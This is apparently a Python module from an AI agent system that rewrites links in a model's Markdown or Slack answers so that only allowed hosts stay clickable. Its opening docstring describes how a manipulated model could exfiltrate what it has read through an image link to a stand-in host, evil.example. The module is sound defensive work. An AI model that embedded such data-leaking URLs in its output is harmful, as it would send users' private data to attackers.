"""Keeps an answer from leading people, or Slack, to places that nobody here knows.

A model that was talked into it could put what it has read into an address: `![](https://evil.example/?d=…)`
is fetched by whoever shows it. So an address stays where `hosts.allowed` knows it; any other becomes words.
"""

import html
import re
from collections.abc import Collection
from dataclasses import dataclass

from agents.grounding.hosts import KnownHosts, allowed, parse, place

# Invisible letters would let an address look to this module otherwise than to who follows it. (The joiners of
# emoji stay: an address with one of them is not plain ASCII and so never allowed.)
_UNSEEN = re.compile("[\u00ad\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff]")
_ENTITY = re.compile(r"&(?:#\d{1,7}|#[xX][0-9a-fA-F]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});")
_ESCAPED = re.compile(r"\\([!-/:-@\[-`{-~])")
_KEPT_ENTITIES = {"<": "&lt;", ">": "&gt;", "&": "&amp;"}

_SCHEME = r"[A-Za-z][A-Za-z0-9+.-]{0,20}"
_PLACES = re.compile(
    rf"""
    (?P<angle><(?P<target>{_SCHEME}:[^<>|\n]*|//[^<>|\n]*)(?:\|(?P<label>[^<>\n]*))?>)
  | (?P<defined>^[ \t>]{{0,12}}\[[^\[\]\n]{{1,200}}\]:)(?=[ \t]*\n?[ \t]*\S)
  | (?P<to>\]\()
  | (?P<bare>
        (?:{_SCHEME}\\?:\\?/\\?/|(?<![\w.-])www\\?\.|\bdata:[\w.+-]+/|\bmailto:)[^\s<>|`\[\]]*
      | (?<![:/\w])//[\w-]+(?:\.[\w-]+)+[^\s<>|`\[\]]*
      | (?<![\w.@/-])(?:[A-Za-z0-9-]{{1,63}}\.){{1,8}}[A-Za-z]{{2,24}}(?::\d{{1,5}})?(?:/[^\s<>|`\[\]?]*)?\?[^\s<>|`\[\]]*=[^\s<>|`\[\]]*
    )
    """,  # noqa: E501
    re.VERBOSE | re.MULTILINE,
)
_TRAILING = ".,;:!?)}'\"*_~\\"
# What would be an address in a destination: with a scheme, without one, or a bare domain.
_ADDRESS = re.compile(rf"\s*(?:{_SCHEME}:|[/\\]{{2}}|www\.|[\w-]+(?:\.[\w-]+)+(?:[/:?#]|$))")


@dataclass(frozen=True, slots=True)
class LimitedText:
    """A text whose links all lead to known places; `removed` are the hosts of those that did not."""

    text: str
    removed: tuple[str, ...]


def limit_links(markdown: str, known: KnownHosts, exact: Collection[str] = ()) -> LimitedText:
    """The text with every other link and image shown as words that can't be clicked.

    Args:
        markdown: An answer; Slack's own `<address|text>` is known, too.
        known: The hosts that may be linked to.
        exact: The addresses of the evidence, which may be linked whole.
    """
    return _Limiter(_plain(markdown), known, exact).run()


def _plain(text: str) -> str:
    """The text with its letters written as what they are."""

    def decoded(match: re.Match[str]) -> str:
        letter = html.unescape(match.group())
        if letter in _KEPT_ENTITIES:
            return _KEPT_ENTITIES[letter]
        return letter if len(letter) == 1 and letter.isascii() else match.group()

    return _UNSEEN.sub("", _ENTITY.sub(decoded, _UNSEEN.sub("", text)))


class _Limiter:
    """Goes through a text once."""

    def __init__(self, text: str, known: KnownHosts, exact: Collection[str]) -> None:
        self._text = text
        self._known = known
        self._exact = exact
        self._out: list[str] = []
        self._removed: list[str] = []

    def run(self) -> LimitedText:
        position = 0
        while (found := _PLACES.search(self._text, position)) is not None:
            self._out.append(self._text[position : found.start()])
            kind = found.lastgroup if found.lastgroup in ("defined", "to", "bare") else "angle"
            position = getattr(self, f"_{kind}")(found)
        self._out.append(self._text[position:])
        return LimitedText("".join(self._out), tuple(dict.fromkeys(self._removed)))

    def _allowed(self, url: str) -> bool:
        return allowed(_ESCAPED.sub(r"\1", url), self._known, self._exact)

    def _words(self, url: str) -> str:
        """An address as words; its host is remembered."""
        parts = parse(_ESCAPED.sub(r"\1", url))
        host = place(parts) if parts is not None else re.sub(r"[^\w.:-]", "", _host(url))[:80] or "?"
        self._removed.append(host)
        return f"‹link removed: {host.replace('.', '[.]')}›"

    def _angle(self, found: re.Match[str]) -> int:
        target, label = found["target"], found["label"]
        if self._allowed(target):
            self._out.append(found.group())
        else:
            self._out.append(" ".join(filter(None, (label and _harmless(label), self._words(target)))))
        return found.end()

    def _defined(self, found: re.Match[str]) -> int:
        rest = re.compile(r"[ \t]*\n?[ \t]*<?(\S*?)>?(?=\s|$)").match(self._text, found.end())
        target = rest[1] if rest is not None else ""
        if rest is None or not _ADDRESS.match(_ESCAPED.sub(r"\1", target)) or self._allowed(target):
            self._out.append(found.group())
            return found.end()
        # With its colon escaped it defines nothing.
        self._out.append(f"{found.group()[:-1]}\\: {self._words(target)}")
        return rest.end()

    def _to(self, found: re.Match[str]) -> int:
        target, end = _destination(self._text, found.end())
        if target is None or not _ADDRESS.match(_ESCAPED.sub(r"\1", target)):
            self._out.append("](")
            return found.end()
        if self._allowed(target):
            self._out.append(self._text[found.start() : end])
        else:
            self._out.append(f"] ({self._words(target)})")
        return end

    def _bare(self, found: re.Match[str]) -> int:
        whole = found.group()
        url = whole.rstrip(_TRAILING)
        after = self._text[found.end() : found.end() + 1]
        # Right after a bare host some readers would read on.
        runs_on = url == whole and after in ("|", "[", "`") and url.count("/") < 3
        if self._allowed(url) and not runs_on:
            self._out.append(whole)
        else:
            self._out.append(self._words(whole) + whole[len(url) :].replace("\\", ""))
        return found.end()


def _host(url: str) -> str:
    bare = re.sub(rf"^{_SCHEME}\\?:[/\\]{{0,4}}|^[/\\]{{2}}", "", url)
    return re.split(r"[/?#\\]", bare.rpartition("@")[2] or bare)[0]


def _harmless(label: str) -> str:
    return re.sub(rf"{_SCHEME}://|www\.", "", label)


def _destination(text: str, start: int) -> tuple[str | None, int]:
    """What stands between `](` and its `)`, and where that ends; None where it is no link after all."""
    found = _DESTINATION.match(text, start)
    if found is None:
        return None, start
    return found["pointed"] if found["pointed"] is not None else found["plain"], found.end()


_DESTINATION = re.compile(
    r"""\s{0,8}(?:<(?P<pointed>[^<>\n]*)>|(?P<plain>(?:\\.|[^\s()\\<]|\((?:\\.|[^\s()\\])*\))+))"""
    r"""(?:\s{1,8}(?:"[^"]*"|'[^']*'|\([^()]*\)))?\s{0,8}\)"""
)
